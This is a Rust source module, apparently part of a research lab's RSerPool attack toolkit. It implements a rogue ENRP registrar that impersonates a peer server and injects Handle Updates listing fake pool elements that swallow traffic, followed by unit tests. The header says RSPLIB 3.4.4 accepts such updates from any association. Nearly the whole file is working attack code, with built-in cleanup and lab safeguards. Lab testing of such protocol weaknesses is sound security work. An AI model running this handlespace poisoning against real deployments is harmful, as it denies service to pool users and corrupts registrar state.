//! `rogue-enrp` (RFC 5355 §2.5): a host that speaks ENRP to registrars as
//! if it were one of them. It sends a Presence announcing an ENRP endpoint
//! of its own (where it listens, so the registrar's Presence back finds
//! it), repeats it while it runs (RSPLIB drops a peer it has not heard from
//! for 5 s), and then, per action, a Handle Update that adds a fake PE
//! whose home registrar is the attacker. RSPLIB 3.4.4 accepts a Handle
//! Update from any association (it refuses only one carrying its own
//! server id, `docs/findings.md`), so the fake PE is listed and handed to
//! pool users (RSPLIB does insist that the PE carries a registrator
//! transport; the attacker names itself). The fake PEs' user address
//! accepts and ignores (a black hole). Before its duration ends the attacker withdraws every fake PE
//! with a Handle Update DEL_PE, so the handlespace is the lab's again
//! (`--no-cleanup` leaves them to expire after `--life-ms`).

use std::collections::BTreeSet;
use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use std::time::Duration;

use anyhow::Result;
use client_core::policy::Rng;
use client_core::wire::{
    self, consts, EnrpMessage, Message, PoolElementId, PoolHandle, Protocol, SelectionPolicy,
    ServerId, TransportAddress,
};
use rserpool_sctp::{SctpAssociation, SctpListener};
use tokio::time::Instant;

use super::{fresh_pe_id, Act, Attack, Common, Ctx};
use crate::fields;
use crate::messages::{self, parse_pe_id, parse_policy, ADD_PE, DEL_PE};
use crate::net;
use crate::output::Output;
use crate::stop::Stop;

use super::reg_flood::MAX_LIFE_MS;

/// How often the attacker repeats its Presence (RSPLIB's peers: every
/// 2.44 s, and a peer unheard for 5 s is dropped).
pub const PRESENCE_INTERVAL: Duration = Duration::from_secs(1);
/// The part of the duration kept for withdrawing the fake PEs at the end.
pub const CLEANUP: Duration = Duration::from_millis(500);
/// Presence checksum of an empty handlespace, as RSPLIB sends it.
pub const EMPTY_CHECKSUM: u16 = 0xffff;

#[derive(Clone, Debug, clap::Args)]
pub struct Args {
    /// Registrars' ENRP endpoints (IP:9901); Handle Updates go to them in turn.
    #[command(flatten)]
    pub common: Common,
    /// The attacker's ENRP server identifier (default: drawn from the
    /// seed, never one of the lab's 0x1000000N).
    #[arg(long = "server-id", value_name = "ID", value_parser = parse_pe_id)]
    pub server_id: Option<u32>,
    /// Local address of the attacker (its associations, ENRP endpoint and
    /// fake PEs); default: whatever the kernel picks.
    #[arg(long, value_name = "IP")]
    pub source: Option<IpAddr>,
    /// Policy of the fake PEs (must match the pool's).
    #[arg(long, value_name = "POLICY", default_value = "round-robin", value_parser = parse_policy)]
    pub policy: SelectionPolicy,
    /// Registration life of the fake PEs in milliseconds (default: the
    /// duration plus 5 s, so that fake PEs left behind expire soon), ≤ 3600000.
    #[arg(long = "life-ms", value_name = "MS")]
    pub life_ms: Option<u32>,
    /// Leave the fake PEs listed at the end (they expire after their life).
    #[arg(long = "no-cleanup")]
    pub no_cleanup: bool,
}

/// The rogue server's handlespace: the fake PEs it has announced, and
/// the ENRP messages that add and withdraw them (no I/O).
#[derive(Debug)]
pub struct RogueServer {
    pub server_id: u32,
    pool: PoolHandle,
    policy: SelectionPolicy,
    life_ms: u32,
    /// Port of the fake PEs' (ignoring) user transport.
    pe_port: u16,
    used: BTreeSet<u32>,
    /// (PE id, link index) of every fake PE announced.
    pub added: Vec<(u32, usize)>,
}

impl RogueServer {
    pub fn new(
        server_id: u32,
        pool: PoolHandle,
        policy: SelectionPolicy,
        life_ms: u32,
        pe_port: u16,
    ) -> Self {
        RogueServer {
            server_id,
            pool,
            policy,
            life_ms: life_ms.min(MAX_LIFE_MS),
            pe_port,
            used: BTreeSet::new(),
            added: Vec::new(),
        }
    }

    /// A server id from the seed's choices, outside the lab's
    /// `0x1000000N` and never 0.
    pub fn draw_server_id(rng: &mut Rng) -> u32 {
        0x6600_0000 | (1 + (rng.next_u64() % 0x00ff_fffe) as u32)
    }

    /// The Presence announcing the attacker's ENRP endpoint.
    pub fn presence(&self, enrp_port: u16, address: IpAddr) -> Vec<u8> {
        messages::presence(
            self.server_id,
            0,
            EMPTY_CHECKSUM,
            false,
            enrp_port,
            vec![address],
        )
    }

    /// Action `seq`: a fresh fake PE at `locals[link]` (its user address
    /// is the attacker's address on that link). Returns the link, the PE
    /// id and the Handle Update ADD_PE.
    pub fn add(&mut self, seq: u64, rng: &mut Rng, locals: &[IpAddr]) -> (usize, u32, Vec<u8>) {
        let link = (seq % locals.len().max(1) as u64) as usize;
        let id = fresh_pe_id(rng, &mut self.used);
        let bytes = self.update(ADD_PE, id, locals[link]);
        self.added.push((id, link));
        (link, id, bytes)
    }

    /// The Handle Updates DEL_PE that withdraw every fake PE, on the link
    /// it was added on.
    pub fn withdrawals(&self, locals: &[IpAddr]) -> Vec<(usize, u32, Vec<u8>)> {
        self.added
            .iter()
            .map(|&(id, link)| (link, id, self.update(DEL_PE, id, locals[link])))
            .collect()
    }

    fn update(&self, action: u16, id: u32, address: IpAddr) -> Vec<u8> {
        let mut pe = messages::pool_element(
            id,
            vec![address],
            self.pe_port,
            self.policy.clone(),
            self.life_ms,
        );
        pe.home_registrar = ServerId(self.server_id);
        // RSPLIB refuses a Handle Update whose PE has no registrator
        // transport (RSPERR_INVALID_REGISTRATOR): the attacker names itself.
        pe.registrator_transport = Some(TransportAddress::sctp(
            self.pe_port,
            consts::transport_use::DATA_ONLY,
            vec![address],
        ));
        messages::handle_update(self.server_id, 0, action, &self.pool, pe)
    }
}

struct Link {
    assoc: Arc<SctpAssociation>,
    target: SocketAddr,
}

struct RogueEnrp {
    server: RogueServer,
    links: Vec<Link>,
    locals: Vec<IpAddr>,
}

impl Attack for RogueEnrp {
    async fn act(&mut self, seq: u64, rng: &mut Rng, _out: &Output) -> Result<Act> {
        let (link, id, bytes) = self.server.add(seq, rng, &self.locals);
        let l = &self.links[link];
        net::send_enrp(&l.assoc, &bytes).await?;
        Ok((
            "handle-update",
            fields! {
                "update" => "add-pe",
                "pe_id" => PoolElementId(id).to_string(),
                "target" => l.target.to_string(),
                "server_id" => ServerId(self.server.server_id).to_string(),
            },
        ))
    }
}

/// What the registrars sent the rogue server (Presence, Handle Table
/// Requests, their own Handle Updates…), by message kind.
#[derive(Default)]
struct Heard {
    presences: AtomicU64,
    table_requests: AtomicU64,
    errors: AtomicU64,
    other: AtomicU64,
}

impl Heard {
    fn count(&self, bytes: &[u8]) {
        let c = match wire::decode(Protocol::Enrp, bytes).map(|d| d.message) {
            Ok(Message::Enrp(EnrpMessage::Presence(_))) => &self.presences,
            Ok(Message::Enrp(EnrpMessage::HandleTableRequest(_))) => &self.table_requests,
            Ok(Message::Enrp(EnrpMessage::Error(_))) => &self.errors,
            _ => &self.other,
        };
        c.fetch_add(1, Ordering::Relaxed);
    }
}

/// Reads what arrives on `assoc` into `heard` until it closes.
fn spawn_reader(assoc: Arc<SctpAssociation>, heard: Arc<Heard>) -> tokio::task::JoinHandle<()> {
    tokio::spawn(async move {
        while let Ok(m) = assoc.recv().await {
            heard.count(&m.data);
        }
    })
}

/// The attacker's own ENRP endpoint: registrars open associations to it
/// after its Presence (their Presence, Handle Updates of their own PEs).
fn spawn_enrp_listener(l: SctpListener, heard: Arc<Heard>) -> tokio::task::JoinHandle<()> {
    tokio::spawn(async move {
        let mut readers = Vec::new();
        while let Ok((assoc, _)) = l.accept().await {
            readers.push(spawn_reader(Arc::new(assoc), heard.clone()));
        }
        for r in readers {
            r.abort();
        }
    })
}

pub async fn run(a: Args, stop: Stop) -> Result<()> {
    let mut ctx = Ctx::new(&a.common, stop);
    let end = ctx.deadline;
    // Keep time to withdraw the fake PEs before the hard end.
    let keep = CLEANUP.min(ctx.bounds.duration / 4);
    ctx.deadline = end - keep;
    let server_id = a
        .server_id
        .unwrap_or_else(|| RogueServer::draw_server_id(&mut ctx.rng));
    let life_ms = a.life_ms.unwrap_or_else(|| {
        u32::try_from(ctx.bounds.duration.as_millis() + 5000).unwrap_or(MAX_LIFE_MS)
    });
    let bind = a.source.unwrap_or(IpAddr::V4(Ipv4Addr::UNSPECIFIED));
    let targets = ctx.targets.clone();
    let source = a.source;
    let Some(((enrp_listener, enrp_port), (pe_port, ignored, pe_listener), links)) = ctx
        .setup(async {
            let l = SctpListener::bind(&[SocketAddr::new(bind, 0)])?;
            let port = l.local_addr()?.port();
            let pe = net::ignoring_listener_on(bind)?;
            let mut links = Vec::new();
            for t in &targets {
                let assoc =
                    net::connect_patiently(source.map(|ip| SocketAddr::new(ip, 0)), *t).await?;
                links.push(Link {
                    assoc: Arc::new(assoc),
                    target: *t,
                });
            }
            Ok(((l, port), pe, links))
        })
        .await
    else {
        return Ok(());
    };
    let locals: Vec<IpAddr> = links
        .iter()
        .map(|l| {
            l.assoc
                .local_addr()
                .map(|a| a.ip())
                .unwrap_or(IpAddr::V4(Ipv4Addr::LOCALHOST))
        })
        .collect();
    let heard = Arc::new(Heard::default());
    let listener = spawn_enrp_listener(enrp_listener, heard.clone());
    let readers: Vec<_> = links
        .iter()
        .map(|l| spawn_reader(l.assoc.clone(), heard.clone()))
        .collect();
    let server = RogueServer::new(
        server_id,
        ctx.pool.clone(),
        a.policy.clone(),
        life_ms,
        pe_port,
    );
    ctx.out.event(
        "rogue-server",
        serde_json::json!({
            "server_id": ServerId(server_id).to_string(),
            "enrp": locals.iter().map(|ip| SocketAddr::new(*ip, enrp_port).to_string()).collect::<Vec<_>>(),
        }),
    );
    // Presence now and every PRESENCE_INTERVAL while the attack runs.
    let presences = Arc::new(AtomicU64::new(0));
    let announcer = {
        let pres: Vec<(Arc<SctpAssociation>, Vec<u8>)> = links
            .iter()
            .zip(&locals)
            .map(|(l, ip)| (l.assoc.clone(), server.presence(enrp_port, *ip)))
            .collect();
        let sent = presences.clone();
        let until = ctx.deadline;
        tokio::spawn(async move {
            let mut tick = tokio::time::interval(PRESENCE_INTERVAL);
            while Instant::now() < until {
                tick.tick().await;
                for (assoc, bytes) in &pres {
                    if net::send_enrp(assoc, bytes).await.is_ok() {
                        sent.fetch_add(1, Ordering::Relaxed);
                    }
                }
            }
        })
    };
    // Let the first Presence arrive before the first Handle Update.
    tokio::time::sleep(Duration::from_millis(50).min(keep)).await;
    let mut attack = RogueEnrp {
        server,
        links,
        locals,
    };
    let f = super::run_paced(&mut attack, &mut ctx, true).await;
    announcer.abort();
    let mut removed = 0u64;
    if !a.no_cleanup {
        let withdrawals = attack.server.withdrawals(&attack.locals);
        let _ = tokio::time::timeout_at(end, async {
            for (link, _, bytes) in withdrawals {
                if net::send_enrp(&attack.links[link].assoc, &bytes)
                    .await
                    .is_ok()
                {
                    removed += 1;
                }
            }
        })
        .await;
    }
    for r in readers {
        r.abort();
    }
    listener.abort();
    pe_listener.abort();
    super::done(
        &ctx,
        f,
        fields! {
            "server_id" => ServerId(server_id).to_string(),
            "added" => attack.server.added.len(),
            "withdrawn" => removed,
            "presences_sent" => presences.load(Ordering::Relaxed),
            "presences_heard" => heard.presences.load(Ordering::Relaxed),
            "table_requests_heard" => heard.table_requests.load(Ordering::Relaxed),
            "errors_heard" => heard.errors.load(Ordering::Relaxed),
            "other_enrp_heard" => heard.other.load(Ordering::Relaxed),
            "user_messages_ignored" => ignored.load(Ordering::Relaxed),
        },
    );
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use client_core::wire::{HandleUpdate, Presence};

    fn server() -> RogueServer {
        RogueServer::new(
            0x6600_0001,
            PoolHandle::from("EchoPool"),
            SelectionPolicy::RoundRobin,
            9000,
            4242,
        )
    }

    fn update(bytes: &[u8]) -> HandleUpdate {
        match wire::decode(Protocol::Enrp, bytes).unwrap().message {
            Message::Enrp(EnrpMessage::HandleUpdate(u)) => u,
            other => panic!("not a Handle Update: {other:?}"),
        }
    }

    fn locals() -> Vec<IpAddr> {
        vec!["127.0.0.66".parse().unwrap(), "127.0.0.67".parse().unwrap()]
    }

    #[test]
    fn each_action_adds_a_fresh_fake_pe_homed_at_the_attacker_on_the_links_in_turn() {
        let mut s = server();
        let mut rng = Rng::new(7);
        let mut ids = BTreeSet::new();
        for seq in 0..6 {
            let (link, id, bytes) = s.add(seq, &mut rng, &locals());
            assert_eq!(link, (seq % 2) as usize);
            let u = update(&bytes);
            assert_eq!(u.update_action, ADD_PE);
            assert_eq!(u.sender, ServerId(0x6600_0001));
            assert_eq!(u.pool_handle, PoolHandle::from("EchoPool"));
            let pe = &u.pool_element;
            assert_eq!(pe.id, PoolElementId(id));
            assert_eq!(pe.home_registrar, ServerId(0x6600_0001));
            assert_eq!(pe.registration_life_ms, 9000);
            assert_eq!(pe.user_transport.port, 4242);
            assert_eq!(pe.user_transport.addresses, vec![locals()[link]]);
            let reg = pe.registrator_transport.as_ref().expect("RSPLIB needs one");
            assert_eq!(reg.addresses, vec![locals()[link]]);
            assert!(id != 0 && ids.insert(id), "fresh id {id:#x}");
        }
    }

    #[test]
    fn withdrawals_delete_every_fake_pe_on_the_link_that_added_it() {
        let mut s = server();
        let mut rng = Rng::new(1);
        let added: Vec<(usize, u32)> = (0..5)
            .map(|seq| {
                let (l, id, _) = s.add(seq, &mut rng, &locals());
                (l, id)
            })
            .collect();
        let w = s.withdrawals(&locals());
        assert_eq!(w.len(), 5);
        for ((link, id, bytes), (l, i)) in w.iter().zip(&added) {
            assert_eq!((link, id), (l, i));
            let u = update(bytes);
            assert_eq!(u.update_action, DEL_PE);
            assert_eq!(u.pool_element.id, PoolElementId(*id));
        }
    }

    #[test]
    fn the_presence_announces_the_attackers_endpoint_and_an_empty_checksum() {
        let s = server();
        let bytes = s.presence(5555, locals()[0]);
        let Message::Enrp(EnrpMessage::Presence(Presence {
            sender,
            checksum,
            server_info: Some(info),
            ..
        })) = wire::decode(Protocol::Enrp, &bytes).unwrap().message
        else {
            panic!("not a Presence");
        };
        assert_eq!(sender, ServerId(0x6600_0001));
        assert_eq!(checksum, EMPTY_CHECKSUM);
        assert_eq!(info.server_id, sender);
        assert_eq!(info.transport.port, 5555);
        assert_eq!(info.transport.addresses, vec![locals()[0]]);
    }

    #[test]
    fn drawn_server_ids_are_never_the_labs_nor_zero_and_follow_the_seed() {
        for seed in 0..200 {
            let id = RogueServer::draw_server_id(&mut Rng::new(seed));
            assert_eq!(id & 0xff00_0000, 0x6600_0000);
            assert_ne!(id & 0x00ff_ffff, 0);
            assert_eq!(id, RogueServer::draw_server_id(&mut Rng::new(seed)));
        }
    }

    #[test]
    fn the_same_seed_announces_the_same_fake_pes() {
        let run = |seed| {
            let mut s = server();
            let mut rng = Rng::new(seed);
            (0..10)
                .map(|q| s.add(q, &mut rng, &locals()).1)
                .collect::<Vec<_>>()
        };
        assert_eq!(run(3), run(3));
        assert_ne!(run(3), run(4));
    }

    #[test]
    fn a_life_longer_than_the_cap_is_clamped() {
        let mut s = RogueServer::new(
            1,
            PoolHandle::from("P"),
            SelectionPolicy::Random,
            u32::MAX,
            1,
        );
        let (_, _, bytes) = s.add(0, &mut Rng::new(1), &locals());
        assert_eq!(
            update(&bytes).pool_element.registration_life_ms,
            MAX_LIFE_MS
        );
    }
}
